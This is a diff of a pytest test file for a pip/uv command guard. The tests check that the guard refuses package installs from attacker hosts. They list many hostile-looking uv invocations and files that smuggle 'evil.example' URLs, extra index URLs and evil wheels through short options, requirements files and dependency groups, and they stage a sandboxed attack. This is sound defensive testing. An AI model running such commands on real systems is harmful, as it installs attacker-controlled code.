@@ -1,13 +1,15 @@
 """uv under the guard: the table against the real uv, and staged attacks through uv.
 
-The option and variable tables come from uv's own help pages; these tests regenerate
-them from the uv installed for the tests and require every option and variable to be
-classified, so a uv release that adds a spelling fails here until it is reviewed.
+The option and variable tables come from uv's own help pages; these tests run the
+generator's --check against the uv installed for the tests and require every valued
+option and every variable to be classified, so a uv release that adds a spelling fails
+here until it is reviewed.
 """
 
 from __future__ import annotations
 
 import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -17,24 +19,53 @@ from pipwrap.guard import uv as guard_uv
 from pipwrap.guard import uv_env, uv_table
 from pipwrap.guard.api import check
 from tests.conftest import Indexes, Sandbox, installed, uv_dir, write_file
-from tests.support.uv_introspect import tree
 
 EVIL = ("evil", "9.9.9")
 LOCAL = ("local", "1.0")
 INDEX = "http://127.0.0.1:9/simple/"
 UV = str(uv_dir() / "uv")
+GENERATOR = Path(__file__).resolve().parent.parent / "scripts" / "gen_uv_table.py"
+EVIL_URL = "git+https://evil.example/x"
 
 
-@pytest.fixture(scope="module")
-def real_uv() -> tuple[str, dict[str, dict[str, bool]], set[str]]:
-    return tree(UV)
+def test_table_is_what_the_installed_uv_lists() -> None:
+    """The committed table is byte for byte what the generator makes from this uv."""
+    done = subprocess.run([sys.executable, str(GENERATOR), "--check", UV],
+                          capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stdout[-4000:] + done.stderr
 
 
-def test_table_is_what_the_installed_uv_lists(real_uv) -> None:  # type: ignore[no-untyped-def]
-    version, commands, variables = real_uv
-    assert version == uv_table.VERSION, "uv changed: run scripts/gen_uv_table.py and review"
-    assert commands == uv_table.COMMANDS
-    assert variables == set(uv_table.VARIABLES)
+def test_every_valued_uv_option_is_classified() -> None:
+    classified = (set(guard_uv.SOURCE) | set(guard_uv.FILES) | guard_uv.REQUIREMENT_VALUES
+                  | guard_uv.DIRECTORY | guard_uv.SCRIPT | guard_uv.GROUP | guard_uv.HARMLESS)
+    valued = {longs[0] for longs, _shorts, takes in uv_table.OPTIONS if takes}
+    assert valued - classified == set(), "classify these in pipwrap/guard/uv.py"
+    assert not (set(guard_uv.SOURCE) | set(guard_uv.FILES) | guard_uv.REQUIREMENT_VALUES) \
+        & guard_uv.HARMLESS
+
+
+def test_short_letters_come_from_the_table() -> None:
+    """Every short letter the table pairs with a source, file or requirement option is
+    read as that option (``-w`` is ``--with``; ``-c`` is ``--clear`` for ``uv venv``)."""
+    judged = set(guard_uv.SOURCE) | set(guard_uv.FILES) | guard_uv.REQUIREMENT_VALUES
+    pairs = set()
+    for command, indexes in uv_table.COMMANDS.items():
+        for index in indexes:
+            longs, shorts, _takes = uv_table.OPTIONS[index]
+            for letter in shorts:
+                assert guard_uv._lookup(command, f"-{letter}")[0] == longs[0]  # type: ignore[index]
+                if longs[0] in judged:
+                    pairs.add((f"-{letter}", longs[0]))
+    assert {("-w", "--with"), ("-i", "--index-url"), ("-r", "--requirements"),
+            ("-e", "--editable"), ("-f", "--find-links")} <= pairs
+    assert guard_uv._lookup("venv", "-c") == ("--clear", False)
+    assert guard_uv._lookup("pip install", "-c") == ("--constraints", True)
+
+
+def test_a_short_option_uv_does_not_list_is_refused() -> None:
+    with pytest.raises(RefusedError, match="-Z"):
+        check(["uv", "pip", "install", "-Z", "foo"], {"PATH": "/usr/bin:/bin"},
+              index_url=INDEX)
 
 
 def test_every_uv_variable_is_classified() -> None:
@@ -77,6 +108,21 @@ def test_hidden_aliases_are_real(tmp_path: Path) -> None:
     ["uv", "pip", "install", "foo @ https://evil.example/foo.whl"],
     ["uv", "pip", "install", "--torch-backend", "auto", "torch"],
     ["python", "-m", "uv", "pip", "install", "--index", "http://evil/", "x"],
+    # Short spellings of source, file and requirement options, read from the table.
+    ["uvx", "-w", EVIL_URL, "black"],
+    ["uvx", f"-w{EVIL_URL}", "black"],
+    ["uvx", f"-w={EVIL_URL}", "black"],
+    ["uvx", "-qw", EVIL_URL, "black"],
+    ["uvx", "-w", f"black,{EVIL_URL}", "black"],
+    ["uv", "tool", "run", "-w", EVIL_URL, "black"],
+    ["uv", "run", "-w", EVIL_URL, "python", "-c", "pass"],
+    ["uv", "run", f"-w={EVIL_URL}", "python"],
+    ["uv", "tool", "install", "-w", EVIL_URL, "black"],
+    ["uv", "pip", "install", "-e", EVIL_URL],
+    ["uv", "pip", "install", "-i=http://evil/", "foo"],
+    ["uv", "pip", "compile", "-f", "http://evil/", "in.txt"],
+    ["uv", "pip", "install", "-qf=http://evil/", "foo"],
+    ["uv", "lock", "-i", "http://evil/"],
 ])
 def test_refused(argv: list[str]) -> None:
     with pytest.raises(RefusedError):
@@ -90,9 +136,77 @@ def test_refused(argv: list[str]) -> None:
     ["uv", "pip", "install", "--default-index", INDEX, "foo"],
     ["uv", "venv", "/tmp/v"],
     ["uvx", "ruff", "check"],
+    ["uvx", "-w", "black", "ruff"],
+    ["uvx", "-w=black", "ruff"],
+    ["uv", "tool", "run", "-w", "black,isort", "ruff"],
+    ["uv", "venv", "-c", "/tmp/v"],
+    ["uv", "--version"],
+    ["uv", "-V"],
+    ["uv", "format", "--version", "0.8.0"],
 ])
 def test_passed(argv: list[str]) -> None:
     check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX)
+
+
+@pytest.mark.parametrize("words", [["-r", "evil.txt"], ["-revil.txt"], ["-r=evil.txt"],
+                                   ["-qr", "evil.txt"], ["-c", "evil.txt", "foo"],
+                                   ["-b", "evil.txt", "foo"], ["--requirement", "evil.txt"],
+                                   ["--with-requirements", "evil.txt"]])
+def test_short_file_options_are_followed(tmp_path: Path, words: list[str]) -> None:
+    write_file(tmp_path / "evil.txt", "--extra-index-url http://evil.example/simple/\nfoo\n")
+    command = ["uvx", *words, "black"] if words[0] == "--with-requirements" else \
+        ["uv", "pip", "install", *words]
+    with pytest.raises(RefusedError, match=r"evil\.txt"):
+        check(command, {"PATH": "/usr/bin:/bin"}, index_url=INDEX, cwd=str(tmp_path))
+
+
+def test_an_unclassified_valued_option_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(guard_uv, "HARMLESS", guard_uv.HARMLESS - {"--python"})
+    with pytest.raises(RefusedError, match="has not classified"):
+        check(["uv", "pip", "install", "-p", "3.12", "foo"], {"PATH": "/usr/bin:/bin"},
+              index_url=INDEX)
+
+
+@pytest.mark.parametrize("group", ["ev", "pyproject.toml:ev", ".:ev", "sub/pylock.toml:ev"])
+def test_pip_interface_group_reads_the_file_it_names(tmp_path: Path, group: str) -> None:
+    """`uv pip install --group [PATH:]NAME` installs a group from a pyproject.toml or a
+    pylock.toml; its direct references are downloads like any other."""
+    write_file(tmp_path / "pyproject.toml", '[project]\nname = "demo"\nversion = "0"\n'
+               '[dependency-groups]\nev = ["foo @ https://evil.example/foo-9.9.9-py3-none-any.whl"]\n')
+    write_file(tmp_path / "sub/pylock.toml", 'lock-version = "1.0"\ncreated-by = "x"\n'
+               '[[packages]]\nname = "foo"\nversion = "9.9.9"\n[packages.archive]\n'
+               'url = "https://evil.example/foo-9.9.9-py3-none-any.whl"\n')
+    for command in (["pip", "install"], ["pip", "compile"], ["pip", "sync"]):
+        with pytest.raises(RefusedError, match=r"evil\.example"):
+            check(["uv", *command, "--group", group], {"PATH": "/usr/bin:/bin"},
+                  index_url=INDEX, cwd=str(tmp_path))
+    # In a project command the group is one of the project's own (`uv add --group dev`).
+    write_file(tmp_path / "other/pyproject.toml", '[project]\nname = "o"\nversion = "0"\n')
+    check(["uv", "add", "--group", "ev", "--frozen", "bar"], {"PATH": "/usr/bin:/bin"},
+          index_url=INDEX, cwd=str(tmp_path / "other"))
+
+
+@pytest.mark.parametrize("argv", [
+    ["uv", "sync", "--group", "ev"],
+    ["uv", "run", "--group", "ev", "python", "-c", "pass"],
+    ["uv", "export", "--only-group", "ev"],
+    ["uv", "lock"],
+])
+def test_project_commands_read_the_projects_direct_references(tmp_path: Path,
+                                                              argv: list[str]) -> None:
+    """A group `--group` selects (or any group, extra, dependency) of the project: uv
+    resolves its `name @ URL` like any requirement."""
+    write_file(tmp_path / "pyproject.toml", '[project]\nname = "demo"\nversion = "0"\n'
+               'dependencies = []\n[project.urls]\nHomepage = "https://example.org/demo"\n'
+               '[dependency-groups]\nev = ["foo @ https://evil.example/foo-9.9.9-py3-none-any.whl"]\n')
+    with pytest.raises(RefusedError, match=r"\[dependency-groups\]"):
+        check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX, cwd=str(tmp_path))
+    # [project.urls] is no download: a project naming its homepage is installed as usual.
+    write_file(tmp_path / "pyproject.toml", '[project]\nname = "demo"\nversion = "0"\n'
+               'dependencies = ["foo"]\n[project.urls]\nHomepage = "https://example.org/demo"\n')
+    check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX, cwd=str(tmp_path))
+    check(["pip", "install", "."], {"PATH": "/usr/bin:/bin"}, index_url=INDEX,
+          cwd=str(tmp_path))
 
 
 def _attack(sandbox: Sandbox, indexes: Indexes, venv: Path, command: str,
@@ -109,6 +223,27 @@ def _attack(sandbox: Sandbox, indexes: Indexes, venv: Path, command: str,
     assert done.stdout.strip().splitlines()[-1] == "status=3", done.stderr
     assert not wrapped.exists()
     return done
+
+
+@pytest.mark.parametrize("command", [
+    "uvx -w {url} python -c 'import foo; print(foo.ORIGIN)'",
+    "uvx -w={url} python -c 'import foo; print(foo.ORIGIN)'",
+    "uv tool run -w {url} python -c 'import foo; print(foo.ORIGIN)'",
+    "uv run --no-project -w {url} python -c 'import foo; print(foo.ORIGIN)'",
+])
+def test_short_with_is_refused_under_wrap(sandbox: Sandbox, indexes: Indexes,
+                                          command: str) -> None:
+    """`-w` is `--with`: bare, the evil Foo is imported; under wrap, nothing runs."""
+    url = indexes.upstream.url.replace("/simple/", "/packages/foo-9.9.9-py3-none-any.whl")
+    line = command.format(url=url)
+    script = (f"cd ~\nUV_DEFAULT_INDEX={indexes.local.url} {line}\n"
+              f"pipwrap check -- {line}\necho check=$?\n"
+              f"wrap {line}\necho status=$?\n")
+    done = sandbox.sh("bash", script)
+    lines = done.stdout.strip().splitlines()
+    assert lines[0] == "evil", f"the staged attack did not work:\n{done.stderr}"
+    assert lines[1:] == ["check=3", "status=3"], done.stderr
+    assert "pipwrap: refused:" in done.stderr
 
 
 def test_uv_pip_sync_scans_its_positional_file(sandbox: Sandbox, indexes: Indexes,
